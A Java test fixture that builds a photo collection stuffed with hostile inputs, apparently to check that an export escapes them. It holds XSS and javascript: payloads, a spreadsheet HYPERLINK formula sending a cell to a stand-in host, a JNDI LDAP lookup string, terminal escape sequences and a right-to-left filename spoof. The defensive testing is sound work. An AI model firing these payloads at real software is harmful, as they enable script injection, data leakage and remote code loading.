package org.caveat.export;

import java.text.Normalizer;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.function.UnaryOperator;
import java.util.stream.IntStream;
import org.caveat.collection.CollectionOnDisk;
import org.caveat.collection.Holding;
import org.caveat.model.Beyond;
import org.caveat.model.Body;
import org.caveat.model.Certainty;
import org.caveat.model.Evidence;
import org.caveat.model.Foreign;
import org.caveat.model.Identifier;
import org.caveat.model.Kind;
import org.caveat.model.Name;
import org.caveat.model.Person;
import org.caveat.model.Photograph;
import org.caveat.model.PhotographFields;
import org.caveat.model.Region;
import org.caveat.model.Source;
import org.caveat.model.Stance;
import org.caveat.model.Statement;
import org.caveat.model.StatementFields;
import org.caveat.model.Status;
import org.caveat.model.Taken;
import org.caveat.model.Target;
import org.caveat.model.Text;
import org.caveat.model.Title;
import org.caveat.sidecar.Loaded;

/** What a page must bear: each photograph of this collection has one thing that breaks careless web sites. */
public final class HostileCollection {
    public static final String MARKUP =
            "</script><script>alert(1)</script><!-- <b>bold</b> & \"quoted\" 'too' &amp; ]]>";
    public static final String ENDLESS = "x".repeat(5_000);
    public static final String NAME = "100% #1? & \"Süß\" 'n' {{7*7}}";

    private static final String HEBREW = "תצלום של נמל \u202Ehidden\u202C בעיר";
    private static final String ARABIC = "صورة الميناء \u2067abc\u2069";
    private static final String STACKED = "e\u0301\u0308\u0323".repeat(40) + " 👩‍🔬🏳️‍🌈";

    /** What a spreadsheet would reckon, a browser run, a template fill in, a terminal obey, a reader take for an end. */
    public static final List<String> ATTACKS = List.of(
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
            "javascript:alert(document.domain)//<img src=x onerror=alert(1)>",
            "${jndi:ldap://example.invalid/a} #{7*7} %s %n %08x {0} {{7*7}} ]]>",
            "one\u2028two\u2029three\u0085four\u000Bfive",
            "half \uD83D of a pair, and \uDC00 another",
            "\u202Egpj.exe\u2066\u2069\u200B\uFEFF",
            "\u001B]0;owned\u0007\u001B[2J\u009B31m\u0090q\u009C\b\u007F",
            "a" + "\u0301".repeat(500));

    private HostileCollection() {}

    public static CollectionOnDisk make() {
        return Given.collection(all());
    }

    /** The same, but for what is endless, which is said once in it and not forty times: printed, each fills pages. */
    static CollectionOnDisk forPaper() {
        return Given.collection(all().stream()
                .map(photograph -> photograph.file().equals("endless.jpg") ? endlessOnce() : photograph)
                .toList());
    }

    private static List<Holding> all() {
        List<Holding> holdings = new ArrayList<>();
        holdings.add(saying("markup.jpg", MARKUP, "en"));
        holdings.add(saying("endless.jpg", ENDLESS, "en"));
        holdings.add(saying("hebrew.jpg", HEBREW, "he"));
        holdings.add(saying("arabic.jpg", ARABIC, "ar"));
        holdings.add(saying("stacked.jpg", STACKED, "en"));
        holdings.add(saying(NAME + ".jpg", "A name for the disk.", "en"));
        holdings.add(saying("empty.jpg", "", ""));
        holdings.add(saying("controls.jpg", "\u0000\u0007\u001B[31m\uFFFE\u0085", "x-klingon-und-noch-etwas"));
        for (String attack : ATTACKS) {
            holdings.add(saying("attack-" + ATTACKS.indexOf(attack) + ".jpg", attack, "en"));
        }
        holdings.add(Given.holding("silent.jpg", new Loaded.Absent(Given.bare("silent.jpg"))));
        holdings.add(Given.holding("bare.jpg", Given.bare("bare.jpg")));
        holdings.add(many());
        holdings.add(veiled());
        holdings.add(Given.unreadable("torn.jpg", many().sidecar()));
        holdings.add(Given.unreadable("torn-and-silent.jpg", new Loaded.Absent(Given.bare("torn-and-silent.jpg"))));
        holdings.add(Given.locked("locked.jpg"));
        return holdings;
    }

    private static Holding endlessOnce() {
        Statement caveat = Given.caveat(70_000_000, Kind.BEFORE, ENDLESS)
                .with(StatementFields.EVIDENCE, List.of(source(Stance.DISPUTES, "once", ENDLESS, "en")));
        return Given.photograph("endless.jpg", caveat);
    }

    /** A photograph of which one text is said wherever something can be said. */
    public static Holding saying(String file, String text, String language) {
        int number = Math.floorMod(file.hashCode(), 1_000_000) * 10;
        Statement lead = told(Given.caveat(number, Kind.BEFORE, ""), text, language)
                .with(StatementFields.LEAD, true)
                .with(StatementFields.EVIDENCE, evidence(text, language));
        Statement own = told(Given.caveat(number + 1, new Kind("ours-" + word(text)), ""), text, language)
                .with(StatementFields.CERTAINTY, Optional.of(new Certainty(text.isEmpty() ? "hearsay" : word(text))))
                .with(StatementFields.WHEN, Optional.of(word(text)))
                .with(StatementFields.ABOUT, List.of(Given.id(number + 9)))
                .with(StatementFields.BEYOND, Optional.of(new Beyond("left", Optional.of(90_000), Foreign.NONE)));
        Statement gone = told(Given.caveat(number + 2, Kind.AFTER, ""), text, language)
                .with(StatementFields.STATUS, Optional.of(Status.WITHDRAWN))
                .with(StatementFields.REASON, Optional.of(text))
                .with(StatementFields.REPLACED_BY, Optional.of(Given.id(number)));
        Statement caption = told(Given.caption(number + 3, ""), text, language);
        Statement reply = told(Given.reply(number + 4, lead, ""), text, language);
        return described(file, text, language, number, lead, own, gone, caption, reply);
    }

    private static Holding described(String file, String text, String language, int number, Statement... statements) {
        Person person = new Person(
                Given.id(number + 9), Name.of(text), Optional.of(new Region.Rectangle(900, 700, 5_000, 5_000)));
        Name name = Name.of(text);
        UnaryOperator<Photograph> facts = photograph -> photograph
                .with(PhotographFields.TITLE, List.of(Title.of(language, text)))
                .with(PhotographFields.ALT_TEXT, List.of(Text.of(language, text)))
                .with(PhotographFields.DATE, Optional.of(Taken.on(word(text))))
                .with(PhotographFields.MAKER, List.of(name))
                .with(PhotographFields.PLACE, List.of(name))
                .with(PhotographFields.KEYWORD, List.of(name, name))
                .with(PhotographFields.PERSON, List.of(person))
                .with(PhotographFields.IDENTIFIER, List.of(Identifier.of(word(text), text)))
                .with(PhotographFields.MEDIUM, Optional.of(text))
                .with(PhotographFields.RIGHTS, Optional.of(word(text)));
        var state = Given.bare(file).withItems(List.of(statements));
        return Given.holding(file, state.with(facts.apply(state.photograph())));
    }

    /** Words are kept to the letter, and the data repeats them: these are composed, as the checker wants all text. */
    private static String word(String text) {
        return Normalizer.normalize(text, Normalizer.Form.NFC);
    }

    private static Statement told(Statement statement, String text, String language) {
        return statement.with(StatementFields.BODY, List.of(Body.of(language, text), Body.of("de", text)));
    }

    private static List<Evidence> evidence(String text, String language) {
        return List.of(
                source(Stance.ASSERTS, text, "javascript:alert(1)", language),
                source(Stance.DISPUTES, text, "https://example.invalid/?a=1&b=\"<>", language),
                source(new Stance("mentions"), text, "10.1000/" + MARKUP, language));
    }

    private static Evidence source(Stance stance, String text, String identifier, String language) {
        Source source = new Source(text, Optional.of(identifier), Optional.of(text), Optional.empty());
        return new Evidence(
                stance,
                source,
                Optional.of(text),
                List.of(Text.of(language, text)),
                Optional.of(word(text)),
                Foreign.NONE);
    }

    /** Three hundred caveats of every kind, each with a part of the picture. */
    private static Holding many() {
        Statement[] caveats = IntStream.range(0, 300)
                .mapToObj(number -> Given.caveat(
                                90_000_000 + number, Kind.KNOWN.get(number % 9), "Caveat " + number + ".")
                        .with(StatementFields.WHEN, Optional.of(Integer.toString(1_600 + number)))
                        .with(
                                StatementFields.TARGET,
                                Optional.of(Target.whole("many.jpg")
                                        .at(Optional.of(new Region.Rectangle(number * 3, number * 2, 40, 30))))))
                .toArray(Statement[]::new);
        return Given.photograph("many.jpg", caveats);
    }

    /** What leads is a caveat of care: the picture is not shown unasked. */
    private static Holding veiled() {
        return Given.photograph(
                "veiled.jpg",
                Given.caveat(80_000_000, Kind.CARE, "Ask before you look.").with(StatementFields.LEAD, true));
    }
}
